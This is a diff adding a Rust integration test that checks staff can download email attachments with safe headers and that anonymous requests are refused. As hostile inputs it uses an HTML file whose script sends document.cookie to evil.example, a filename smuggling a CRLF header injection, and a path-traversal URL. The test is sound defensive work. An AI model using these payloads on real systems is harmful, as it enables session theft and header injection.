@@ -212,3 +212,105 @@ both_engines!(
     a_phone_only_citizen_gets_a_callback_not_an_email_to_nobody,
     phone_only
 );
+
+async fn attachments(engine: Engine) {
+    // Arrange: an email with a photo and a hostile HTML file.
+    let ws = workspace(engine).await;
+    let png: Vec<u8> = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0".to_vec();
+    let html = b"<html><script>document.location='https://evil.example/'+document.cookie</script>"
+        .to_vec();
+    let file = |name: &str, content_type: &str, bytes: &[u8]| models::Attachment {
+        filename: Some(name.to_owned()),
+        content_type: content_type.to_owned(),
+        size_bytes: Some(bytes.len() as u64),
+        sha256: None,
+        content: models::AttachmentContent::Inline {
+            bytes: bytes.to_vec(),
+        },
+    };
+    let mut message = email_message(
+        "photo@exemple.ca",
+        "Nid-de-poule",
+        "Voici une photo du trou.",
+        "piece-jointe-1@poste.example.net",
+    );
+    message.received_at = t0();
+    message.attachments = vec![
+        file("trou rue Léger.png", "image/png", &png),
+        file("facture\r\nX-Evil: 1.html", "text/html", &html),
+    ];
+    let thread = ws.app.ingest(&message).await.thread_id.to_string();
+    let thread_detail = detail(&ws, &thread).await;
+    let ids: Vec<String> = thread_detail["messages"][0]["attachments"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|a| a["id"].as_str().unwrap().to_owned())
+        .collect();
+    assert_eq!(ids.len(), 2, "{thread_detail}");
+    let fetch = |path: String, token: Option<String>| {
+        let mut req = ws.app.client.get(format!("{}{path}", ws.app.address));
+        if let Some(token) = token {
+            req = req.bearer_auth(token);
+        }
+        async move { req.send().await.unwrap() }
+    };
+    let agent = Some(ws.agent.clone());
+
+    // Act
+    let photo = fetch(format!("/api/v1/attachments/{}", ids[0]), agent.clone()).await;
+    let preview = fetch(
+        format!("/api/v1/attachments/{}?preview=1", ids[0]),
+        agent.clone(),
+    )
+    .await;
+    let page = fetch(
+        format!("/api/v1/attachments/{}?preview=1", ids[1]),
+        agent.clone(),
+    )
+    .await;
+    let anonymous = fetch(format!("/api/v1/attachments/{}", ids[0]), None).await;
+    let unknown = fetch(
+        format!("/api/v1/attachments/{}", uuid::Uuid::now_v7()),
+        agent.clone(),
+    )
+    .await;
+    let garbage = fetch(
+        "/api/v1/attachments/..%2F..%2Fetc".to_owned(),
+        agent.clone(),
+    )
+    .await;
+
+    // Assert
+    let header = |r: &reqwest::Response, name: &str| {
+        r.headers()
+            .get(name)
+            .map(|v| v.to_str().unwrap().to_owned())
+            .unwrap_or_default()
+    };
+    assert_eq!(photo.status(), 200);
+    assert_eq!(header(&photo, "content-type"), "image/png");
+    assert!(header(&photo, "content-disposition").starts_with("attachment;"));
+    assert!(header(&photo, "content-disposition")
+        .contains("filename*=UTF-8''trou%20rue%20L%C3%A9ger%2Epng"));
+    assert_eq!(header(&photo, "x-content-type-options"), "nosniff");
+    assert!(header(&preview, "content-disposition").starts_with("inline;"));
+    assert_eq!(photo.bytes().await.unwrap().to_vec(), png);
+    assert_eq!(page.status(), 200);
+    assert_eq!(header(&page, "content-type"), "application/octet-stream");
+    let disposition = header(&page, "content-disposition");
+    assert!(
+        disposition.starts_with("attachment;"),
+        "never inline: {disposition}"
+    );
+    assert!(!disposition.contains('\r') && !disposition.contains('\n'));
+    assert_eq!(header(&page, "x-content-type-options"), "nosniff");
+    assert!(header(&page, "content-security-policy").contains("sandbox"));
+    assert_eq!(anonymous.status(), 401);
+    assert_eq!(unknown.status(), 404);
+    assert_eq!(garbage.status(), 404);
+}
+both_engines!(
+    staff_download_attachments_with_safe_headers_and_strangers_cannot,
+    attachments
+);
